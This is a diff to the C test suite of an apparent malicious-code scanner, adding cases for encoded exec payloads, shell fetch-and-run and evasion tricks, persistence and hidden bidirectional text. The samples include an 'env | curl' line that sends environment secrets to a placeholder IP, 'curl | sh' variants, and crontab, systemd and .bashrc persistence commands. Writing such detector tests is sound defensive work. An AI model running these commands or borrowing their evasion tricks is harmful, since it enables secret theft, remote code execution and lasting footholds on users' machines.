@@ -287,6 +287,50 @@ CASE(capabilities)
 	CHECK(effects_ordered());
 }
 
+CASE(padded)
+{
+	/* 40,000 blanks in front of what runs */
+	PY(ROLE_MODULE, "import base64, zlib\nexec(zlib.decompress(base64.b64decode('"
+			"eNrtw6ENgDAQAEDPFJ8qMCzAOkVUNCV8DduDYYu75CIAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
+			"AAAAAAAAAAAAAAAAAAAAAIDf0vo17hkjj++eT86zr6XVsr3Jb5I3"
+			"')))\n");
+	HIT(RULE_DECODED_EXEC);
+}
+
+CASE(shell)
+{
+	SH("#!/usr/bin/env bash\ncurl -O https://example.org/a.deb\n");
+	NONE();
+	SH("env | curl --data-binary @- https://192.0.2.1\n");
+	HIT(RULE_SECRETS_SENT);
+	SH("# curl https://192.0.2.1 | sh\necho 1\n");
+	NONE();
+	SH("echo \"x\"#; curl https://192.0.2.1 | sh\n");
+	HIT(RULE_FETCH_RUN);
+	SH("A=1 B=1 C=1 D=1 E=1 F=1 G=1 H=1 I=1 J=1 K=1 L=1 M=1 N=1 O=1 P=1 Q=1 R=1 S=1 T=1 U=1 "
+	   "V=1 W=1 X=1 Y=1 Z=1 curl https://192.0.2.1 | sh");
+	HIT(RULE_FETCH_RUN);
+	/* what pexpect brings: it reads what it names */
+	SH("source /etc/bash.bashrc\n[ -f ~/.bashrc ] && source ~/.bashrc\nPS1=\"$\"\n");
+	CHECK(!has(RULE_PERSISTENCE));
+	SH("echo x >> ~/.bashrc\n");
+	HIT(RULE_PERSISTENCE);
+	SH("R=~/.bashrc\necho x >> $R\n");
+	HIT(RULE_PERSISTENCE);
+	SH("cp x ~/.config/systemd/user/x.service; systemctl --user enable x\n");
+	HIT(RULE_PERSISTENCE);
+	SH("echo '* * * * * x' | crontab -\n");
+	HIT(RULE_PERSISTENCE);
+}
+
+CASE(hidden_directions)
+{
+	PY(ROLE_MODULE, "a = 1 # \xe2\x80\xae } x\n");
+	HIT(RULE_HIDDEN_TEXT);
+	look(LANG_NONE, ROLE_MODULE, S("msgid \xe2\x80\xae } x\n"));
+	NONE();
+}
+
 CASE(kinds)
 {
 	CHECK(source_language(S("a/b.py"), S("")) == LANG_PYTHON);
@@ -298,7 +342,8 @@ CASE(kinds)
 	CHECK(source_language(S("a.txt"), S("x")) == LANG_NONE);
 	CHECK(source_role(S("setup.py")) == ROLE_INSTALL);
 	CHECK(source_role(S("a/sitecustomize.py")) == ROLE_STARTUP);
-	CHECK(source_role(S("tests/x.py")) == ROLE_SCRIPT);
+	CHECK(source_role(S("tests/x.py")) == ROLE_MODULE);
+	CHECK(source_role(S("docs/setup.py")) == ROLE_INSTALL);
 	CHECK(source_role(S("a/b.py")) == ROLE_MODULE);
 }
 
@@ -348,4 +393,5 @@ CASE(bounded)
 
 TESTS(CASE_ROW(startup_exec), CASE_ROW(decoded), CASE_ROW(secrets), CASE_ROW(fetched),
       CASE_ROW(staying_and_vanishing), CASE_ROW(lifecycle), CASE_ROW(unseen),
-      CASE_ROW(capabilities), CASE_ROW(kinds), CASE_ROW(bounded))
+      CASE_ROW(capabilities), CASE_ROW(padded), CASE_ROW(shell),
+      CASE_ROW(hidden_directions), CASE_ROW(kinds), CASE_ROW(bounded))
